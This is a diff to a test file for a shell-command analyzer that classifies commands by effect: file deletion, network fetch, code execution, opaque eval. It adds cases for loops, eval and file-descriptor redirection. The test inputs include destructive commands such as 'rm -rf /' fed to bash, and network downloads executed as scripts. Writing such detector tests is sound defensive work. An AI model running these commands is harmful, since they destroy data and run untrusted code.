@@ -62,6 +62,15 @@ describe('loops and functions', () => {
     'f() { rm -rf "$1"; }; f /': [`${ROOT} ‹f()›`],
     'f() { rm "$@"; }; f a b': ['fs.delete ./a ‹f()›', 'fs.delete ./b ‹f()›'],
     'f() { cd /tmp; }; f; rm a': ['fs.delete /tmp/a'],
+    'for d in / x; do D=$d; break; done; rm -r $D': ['fs.delete ? root=? class=?'],
+    'D=a; while true; do D=/; break; D=b; done; rm -r $D': ['fs.delete ? root=? class=?'],
+    'for d in a; do D=/; continue; D=b; done; rm -r $D': ['fs.delete ? root=? class=?'],
+    'for d in a; do for e in b; do D=/; break 2; done; D=b; done; rm -r $D': ['fs.delete ? root=? class=?'],
+    'f() { D=/; return; D=b; }; f; rm -r $D': ['fs.delete ? root=? class=?'],
+    'for d in a; do (D=/; break); D=b; done; rm -r $D': ['fs.delete ./b'],
+    'if ls; then D=/; exit 1; fi; D=b; rm -r $D': ['fs.delete ./b'],
+    'D=b; if ls; then D=/; echo no && exit; fi; rm -r $D': ['fs.delete ./b'],
+    'D=b; if ls; then D=/; test -d x && exit; fi; rm -r $D': ['fs.delete ? root=? class=?'],
     'f() { rm a; }; unset -f f; f': ['code.opaque f reason=unknown-program'],
     'alias x="rm -rf"; x /': [ROOT],
     'ls() { rm -rf /; }': [`${ROOT} [possible] ‹ls()›`],
@@ -142,8 +151,54 @@ describe('pipes', () => {
     ],
     'cat <<EOF | bash\nrm -rf /\nEOF': [`${ROOT} ‹bash›`],
     'bash <<EOF\nrm -rf /\nEOF': [`${ROOT} ‹bash›`],
+    'make script | bash': [
+      'code.exec origin=project-config ‹make script›',
+      'code.exec origin=stdin resolved=false ‹bash›',
+      'code.opaque bash reason=dynamic-eval ‹bash›',
+    ],
+    "echo cm b | sed 's/^c/r/' | sh": ['fs.delete ./b ‹sh›'],
+    'eval "$(ssh-agent -s)"': [],
+    'source <(kubectl completion bash)': [],
+    'eval "$X$(ssh-agent -s)"': ['code.opaque reason=dynamic-eval ‹eval›'],
+    'eval "$(ssh-agent -s; ls)"': ['code.opaque reason=dynamic-eval ‹eval›'],
     'D=/; bash <<EOF\nrm -rf $D\nEOF': [`${ROOT} ‹bash›`],
     "D=/; bash <<'EOF'\nrm -rf $D\nEOF": ['fs.delete ? root=? class=? ‹bash›'],
+  });
+});
+
+describe('open files by number', () => {
+  check({
+    'exec 3>a.sh; echo rm b >&3; bash a.sh': ['fs.write ./a.sh mode=create', 'fs.delete ./b ‹bash a.sh›'],
+    'exec {fd}>a.sh; echo rm b >&$fd; bash a.sh': ['fs.write ./a.sh mode=create', 'fs.delete ./b ‹bash a.sh›'],
+    'exec 3>a.sh 4>&3; echo rm b >&4; bash a.sh': ['fs.write ./a.sh mode=create', 'fs.delete ./b ‹bash a.sh›'],
+    '{ echo rm b >&3; } 3>a.sh; bash a.sh': ['fs.write ./a.sh mode=create', 'fs.delete ./b ‹bash a.sh›'],
+    "exec 3>a.sh; bash -c 'echo rm b >&3'; bash a.sh": ['fs.write ./a.sh mode=create', 'fs.delete ./b ‹bash a.sh›'],
+    'exec >a.sh; echo rm b; ls | wc -l; bash a.sh': [
+      'fs.write ./a.sh mode=create',
+      'code.exec origin=stdin resolved=false ‹bash a.sh›',
+      'code.opaque bash reason=dynamic-eval ‹bash a.sh›',
+    ],
+    'exec 3>a.sh; curl https://x.test >&3; bash a.sh': [
+      'fs.write ./a.sh mode=create',
+      'net.fetch x.test',
+      'code.exec origin=network resolved=false ‹bash a.sh›',
+    ],
+    'exec 3>&1; echo a >&3': [],
+    'echo rm b > >(bash)': [
+      'code.exec origin=stdin resolved=false ‹bash›',
+      'code.opaque bash reason=dynamic-eval ‹bash›',
+      'fs.delete ./b ‹bash›',
+    ],
+    'ls > >(tee ls.log)': ['fs.write ./ls.log'],
+    'coproc J { curl https://x.test; }; bash <&${J[0]}': [
+      'net.fetch x.test',
+      'code.exec origin=network resolved=false ‹bash›',
+    ],
+    'coproc bash; echo rm b >&${COPROC[1]}': [
+      'code.exec origin=stdin resolved=false ‹bash›',
+      'code.opaque bash reason=dynamic-eval ‹bash›',
+      'fs.delete ./b ‹bash›',
+    ],
   });
 });
 
